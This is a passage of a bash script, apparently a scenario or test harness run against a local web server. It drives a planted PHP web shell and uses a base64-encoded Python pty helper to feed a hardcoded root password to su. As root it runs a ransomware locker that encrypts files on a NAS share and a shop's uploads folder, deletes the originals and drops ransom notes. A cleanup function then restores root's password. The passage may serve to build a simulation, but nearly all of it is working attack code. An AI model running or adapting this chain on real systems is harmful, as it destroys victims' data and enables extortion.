  for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$H91_PORT/" && break; sleep 0.2; done
  local su_py lk
  # a pty for su (it reads the password from a terminal), the password typed at its prompt
  su_py=$(base64 -w0 <<'P'
import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execvp('su', ['su', '-', '-c', 'bash /tmp/.lk91.sh'])
buf = b''
while b'assword' not in buf:
    buf += os.read(fd, 1024)
os.write(fd, b'Rt#shop-2026\n')
while True:
    try:
        d = os.read(fd, 4096)
    except OSError:
        break
    if not d:
        break
    sys.stdout.write(d.decode(errors='replace'))
os.waitpid(pid, 0)
P
)
  lk=$(base64 -w0 <<'S'
for top in /srv/nas/share /var/www/shop/uploads; do
  find "$top" -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:Pv-91 -in "$f" -out "$f.pv91" && rm -f "$f"; done
  find "$top" -type d -exec sh -c 'echo "Root was taken. Your files are encrypted: pv91@onionmail.example" > "$1/PV91-RECOVER.txt"' _ {} \;
done
echo locked
S
)
  curl -s --max-time 20 --data-urlencode "c=id; echo $lk | base64 -d > /tmp/.lk91.sh; echo $su_py | base64 -d > /tmp/.p91.py" "http://127.0.0.1:$H91_PORT/.thumb-cache.php"
  curl -s --max-time 120 --data-urlencode "c=python3 /tmp/.p91.py; rm -f /tmp/.p91.py /tmp/.lk91.sh" "http://127.0.0.1:$H91_PORT/.thumb-cache.php" | tail -2 >> $CASE/facts
  sleep 1; kill -- -$web 2>/dev/null; sleep 0.5
}
post_h91_webshell_su_root_password_locker() {
  usermod -p "$(cut -d: -f1 /var/tmp/.h91-roothash)" root; chage -d "$(cut -d: -f2 /var/tmp/.h91-roothash)" root; rm -f /var/tmp/.h91-roothash /tmp/.p91.py /tmp/.lk91.sh
  rm -rf /var/www/shop/public
}
